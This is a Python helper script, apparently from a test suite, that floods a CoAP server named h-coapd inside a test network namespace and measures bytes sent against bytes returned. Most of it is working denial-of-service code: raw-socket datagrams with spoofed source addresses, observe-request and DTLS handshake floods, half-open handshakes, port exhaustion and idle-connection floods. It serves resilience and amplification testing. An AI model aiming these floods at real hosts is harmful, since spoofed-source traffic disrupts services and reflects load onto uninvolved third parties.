#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""What test_coapd_attack.py lets loose on h-coapd, in a network namespace of its own: coap-attack.py KIND
DEVICE OWN COUNT. COUNT 0: until it is ended; says when it has begun. Prints JSON: bytes sent and bytes that came back."""
import json
import os
import random
import select
import signal
import socket
import struct
import sys
import time

LINK = '/sys/class/net/atk0/statistics/'
FAKES = '198.18.'  # for such tests (RFC 2544)


def request(observe=False):
    token, mid = os.urandom(4), os.urandom(2)
    path = (b'\x60\x56system\x06status' if observe else b'\xb6system\x06status')
    return bytes([0x44, 1]) + mid + token + path


def hello(cookie=b'', sequence=0):
    body = b'\xfe\xfd' + os.urandom(32) + b'\0' + bytes([len(cookie)]) + cookie + b'\0\2\xc0\xa8' + b'\1\0'
    record = b'\1' + len(body).to_bytes(3, 'big') + sequence.to_bytes(2, 'big') + b'\0\0\0' + len(body).to_bytes(3, 'big') + body
    return b'\x16\xfe\xfd\0\0' + sequence.to_bytes(6, 'big') + len(record).to_bytes(2, 'big') + record


def forged(device, port, payload):
    """A datagram in somebody else's name."""
    source = FAKES + f'{random.randrange(256)}.{random.randrange(1, 255)}'
    size = 28 + len(payload)
    ip = struct.pack('!BBHHHBBH4s4s', 0x45, 0, size, 0, 0, 64, 17, 0, socket.inet_aton(source), socket.inet_aton(device))
    return ip + struct.pack('!HHHH', random.randrange(1024, 65535), port, 8 + len(payload), 0) + payload


def counter(name):
    with open(LINK + name) as f:
        return int(f.read())


class Forger:
    def __init__(self, device, port, make):
        self.socket = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        self.device, self.port, self.make = device, port, make

    def step(self):
        try:
            self.socket.sendto(forged(self.device, self.port, self.make()), (self.device, 0))
        except OSError:
            time.sleep(0.001)


class Prepared(Forger):
    """As many as a core sends."""

    def __init__(self, device, port, make):
        super().__init__(device, port, make)
        self.socket.setblocking(False)
        self.some = [forged(device, port, make()) for _ in range(20000)]
        self.n = 0

    def step(self):
        self.n += 1
        try:
            self.socket.sendto(self.some[self.n % len(self.some)], (self.device, 0))
        except OSError:
            pass


class Ports:
    """From many ports of one address that is there."""

    def __init__(self, device, own, port, make):
        self.device, self.own, self.port, self.make, self.sockets = device, own, port, make, []

    def step(self):
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.bind((self.own, 0))
        s.setblocking(False)
        try:
            s.sendto(self.make(), (self.device, self.port))
        except OSError:
            pass
        self.sockets.append(s)
        if len(self.sockets) > 400:
            self.sockets.pop(0).close()


class HalfOpen:
    """Answers the cookie, and then nothing any more."""

    def __init__(self, device, own):
        self.device, self.own = device, own

    def step(self):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.bind((self.own, 0))
            s.connect((self.device, 5684))
            s.send(hello())
            if select.select([s], [], [], 0.2)[0]:
                try:
                    answer = s.recv(2048)
                except OSError:
                    return
                s.send(hello(answer[28:28 + answer[27]], 1))


class Connections:
    """That say nothing."""

    def __init__(self, device, own, port):
        self.device, self.own, self.port, self.sockets = device, own, port, []

    def step(self):
        s = socket.socket()
        s.bind((self.own, 0))
        s.setblocking(False)
        s.connect_ex((self.device, self.port))
        self.sockets.append(s)
        if len(self.sockets) > 300:
            self.sockets.pop(0).close()
        time.sleep(0.0005)


def main():
    kind, device, own, count = sys.argv[1:]
    garbage = lambda: os.urandom(random.randrange(1, 1200))
    attack = {'forged-get': lambda: Forger(device, 5683, request),
              'full-get': lambda: Prepared(device, 5683, request),
              'forged-observe': lambda: Forger(device, 5683, lambda: request(True)),
              'forged-hello': lambda: Forger(device, 5684, hello),
              'forged-garbage': lambda: Forger(device, random.choice((5683, 5684)), garbage),
              'ports': lambda: Ports(device, own, 5683, request),
              'hello-ports': lambda: Ports(device, own, 5684, hello),
              'half-open': lambda: HalfOpen(device, own),
              'tcp': lambda: Connections(device, own, 5683),
              'tls': lambda: Connections(device, own, 5684)}[kind]()
    stop = []
    signal.signal(signal.SIGTERM, lambda *_: stop.append(1))
    before = counter('tx_bytes'), counter('rx_bytes')
    n = 0
    while not stop and (n < int(count) or count == '0'):
        attack.step()
        n += 1
        if n == 10 and count == '0':
            print('begun', flush=True)
        if n % 50 == 0 and kind != 'full-get':
            time.sleep(0.005)
    last = -1
    while not stop and last != counter('rx_bytes'):  # until nothing comes back any more
        last = counter('rx_bytes')
        time.sleep(5)
    print(json.dumps({'steps': n, 'sent': counter('tx_bytes') - before[0], 'received': counter('rx_bytes') - before[1]}))


if __name__ == '__main__':
    main()
